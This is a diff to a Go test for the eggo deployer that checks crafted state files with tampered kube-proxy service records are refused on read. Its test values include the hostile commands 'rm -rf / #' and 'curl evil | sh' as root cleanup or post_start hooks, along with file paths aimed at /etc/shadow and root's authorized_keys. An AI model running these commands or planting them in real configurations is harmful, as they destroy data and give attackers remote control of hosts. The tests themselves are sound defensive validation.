@@ -58,8 +58,23 @@ func TestCraftedStateRefusedAtRead(t *testing.T) {
 		{"backup elsewhere", func(_, _, a map[string]any) {
 			appendTo(a, "replaced", map[string]any{"path": hello, "backup": "/etc/shadow", "sha256": strings.Repeat("0", 64)})
 		}, `host.n1: replaced[0]: the backup of ` + hello + ` is recorded as "/etc/shadow", but eggo keeps it at /var/lib/eggo/backup` + hello},
+		// A service's cleanup runs as root at its delete: only eggo's own
+		// cleanups are (today's, for the parameters of the one recorded).
+		{"service cleanup rm -rf /", withService("cleanup", "rm -rf / #"),
+			`service.kube-proxy["n1"]: cleanup is not a cleanup eggo makes for the kube-proxy service`},
+		{"service cleanup curl | sh", withService("cleanup", "curl evil | sh"),
+			`service.kube-proxy["n1"]: cleanup is not a cleanup eggo makes for the kube-proxy service`},
+		{"service post_start curl | sh", withService("post_start", "curl evil | sh"),
+			`service.kube-proxy["n1"]: post_start is not one eggo makes for the kube-proxy service`},
+		{"service file /etc/shadow", withService("file_modes", map[string]any{"/etc/kubernetes/kube-proxy/config.yaml": "0644", "/etc/shadow": "0600"}),
+			`service.kube-proxy["n1"]: file_modes: /etc/shadow is not where eggo writes the files of the kube-proxy service (CONFIG_DIR/kube-proxy/NAME)`},
+		{"service file authorized_keys", withService("file_modes", map[string]any{"/root/.ssh/authorized_keys": "0600"}),
+			`service.kube-proxy["n1"]: file_modes: /root/.ssh/authorized_keys is not where eggo writes the files of the kube-proxy service`},
 	} {
 		t.Run(c.name, func(t *testing.T) {
+			if strings.HasPrefix(c.name, "service ") {
+				withAllKinds(t) // the service kind checks its own records
+			}
 			crafted := craftState(t, good, c.edit)
 			if err := os.WriteFile(f.statePath(), crafted, 0o600); err != nil {
 				t.Fatal(err)
@@ -83,6 +98,24 @@ func TestCraftedStateRefusedAtRead(t *testing.T) {
 		t.Fatal(err)
 	}
 	f.mustRun(0, "destroy", "-auto-approve") // the state as eggo wrote it still reads
+}
+
+// withService is an edit adding to the state n1's kube-proxy service as
+// eggo records it, but for its attribute attr, which is value.
+func withService(attr string, value any) func(top, host, attrs map[string]any) {
+	return func(top, _, hostAttrs map[string]any) {
+		attrs := map[string]any{
+			"component": "kube-proxy", "unit_name": "kube-proxy.service", "unit": "[Service]\nExecStart=/usr/local/bin/kube-proxy\n",
+			"file_modes":   map[string]any{"/etc/kubernetes/kube-proxy/config.yaml": "0644"},
+			"file_digests": map[string]any{"/etc/kubernetes/kube-proxy/config.yaml": strings.Repeat("0", 64)},
+			"cleanup":      "/usr/local/bin/kube-proxy --cleanup >/dev/null 2>&1; true", "post_start": "",
+			"data_dirs": []any{}, "created_dirs": []any{}, "owned_data": []any{}, "version": "1.31.4",
+			"address": hostAttrs["address"], "connection": hostAttrs["connection"],
+		}
+		attrs[attr] = value
+		top["resources"] = append(top["resources"].([]any), map[string]any{
+			"address": `service.kube-proxy["n1"]`, "kind": "service", "node": "n1", "attributes": attrs})
+	}
 }
 
 // craftState is the state file data with the host's record edited as JSON.
